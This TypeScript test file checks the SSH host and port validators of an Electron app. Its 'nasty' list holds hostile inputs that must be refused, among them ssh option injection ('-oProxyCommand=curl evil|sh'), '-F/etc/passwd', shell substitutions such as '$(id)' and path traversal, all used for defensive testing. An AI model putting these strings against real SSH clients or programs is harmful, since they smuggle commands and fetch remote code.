import { describe, expect, test } from 'vitest'
import { BerthError } from '../../../electron/contract/problem.ts'
import { candidates } from '../../../electron/ssh/connection/addresses.ts'
import { checkHost, checkPort } from '../../../electron/ssh/connection/ssh-address.ts'

const hosts = [
  'ssh4.example.com',
  'a',
  'localhost',
  '127.0.0.1',
  '::1',
  '2001:db8::1',
  'EXAMPLE.com.',
  'xn--bcher-kva.example',
  '1and1.example',
  `${'a'.repeat(63)}.example`,
]

const nasty: unknown[] = [
  '-oProxyCommand=id',
  '-oProxyCommand=curl evil|sh',
  '--',
  '-',
  '-F/etc/passwd',
  '',
  ' ',
  'a b',
  ' example.com',
  'example.com ',
  'example.com\n',
  'example.com\r\nHost *',
  'a\tb',
  'a\0b',
  'a\u00a0b',
  '"example.com"',
  "example.com'",
  '`id`',
  '$(id)',
  '\u0024{HOME}',
  'a;id',
  'a|id',
  'a&id',
  'a>b',
  'a\\b',
  'root@example.com',
  'user:pass@example.com',
  'ssh://example.com',
  'http://example.com/',
  'example.com:22',
  '[::1]',
  'fe80::1%eth0',
  '%h',
  'example.com%00',
  '*',
  '*.example.com',
  '?',
  '~',
  '../../etc/passwd',
  '/tmp/socket',
  'exаmple.com', // with a Cyrillic a
  'ｅxample.com', // full width
  'example。com', // ideographic full stop
  'exam\u200bple.com', // zero width space
  'exam\u202eple.com', // right to left
  'bücher.example',
  '\u001b[31mexample.com',
  'a..b',
  '.example.com',
  'example-.com',
  '-a.example.com',
  'a.-b.example.com',
  'a_b.example.com',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0x7f.1',
  '1.2.3.4.5',
  '256.1.1.1',
  '::g',
  `${'a'.repeat(64)}.example`,
  `${'a.'.repeat(127)}`,
  'a'.repeat(100_000),
  undefined,
  null,
  42,
  ['example.com'],
  { toString: () => 'example.com' },
]

describe('a host that the service names', () => {
  test.each(hosts)('%j is taken as it is', host => {
    expect(checkHost(host)).toBe(host)
  })

  test.each(nasty.map(host => [host]))('%j is refused, with the field and without repeating it', host => {
    const problem = refusal(() => checkHost(host))
    expect(problem.code).toBe('bad_address')
    expect(problem.field).toBe('ssh_host')
    expect(problem.message).toContain('ssh_host')
    expect(problem.message.length).toBeLessThan(150)
    if (typeof host === 'string' && host.trim().length > 4) expect(problem.message).not.toContain(host)
  })
})

describe('a port that the service names', () => {
  test('is a whole number from 1 to 65535, or the digits of one', () => {
    expect([1, 22, 65_535, '22', '40001'].map(checkPort)).toEqual([1, 22, 65_535, 22, 40_001])
  })

  test.each([
    0,
    -1,
    65_536,
    22.5,
    Number.NaN,
    '',
    '022',
    '22 ',
    '-oFoo',
    '0x16',
    '99999',
    null,
    undefined,
    {},
    [22],
  ])('%j is refused', port => {
    expect(refusal(() => checkPort(port)).field).toBe('ssh_port')
  })
})

describe('the ways in', () => {
  const direct = { host: '203.0.113.7', port: 40_001 }
  const proxy = { host: 'ssh4.example.com', port: 12_345 }

  test('are the direct one, then the proxy, then for Jupyter the proxy’s next port', () => {
    expect(candidates({ direct, proxy }, true)).toEqual([
      { address: direct, way: 'direct' },
      { address: proxy, way: 'proxy' },
      { address: { host: proxy.host, port: 12_346 }, way: 'guess' },
    ])
    expect(candidates({ proxy }, false)).toEqual([{ address: proxy, way: 'proxy' }])
    expect(candidates({ direct }, true)).toEqual([{ address: direct, way: 'direct' }])
    expect(candidates({ proxy: { ...proxy, port: 65_535 } }, true)).toHaveLength(1)
  })

  test('are refused whole when one of them is not an address, and when there is none', () => {
    expect(refusal(() => candidates({ direct: { host: '-v', port: 22 }, proxy }, false)).code).toBe(
      'bad_address',
    )
    expect(refusal(() => candidates({}, true)).code).toBe('bad_address')
  })
})

function refusal(work: () => unknown) {
  try {
    work()
  } catch (error) {
    if (error instanceof BerthError) return error.problem
    throw error
  }
  throw new Error('nothing was refused')
}
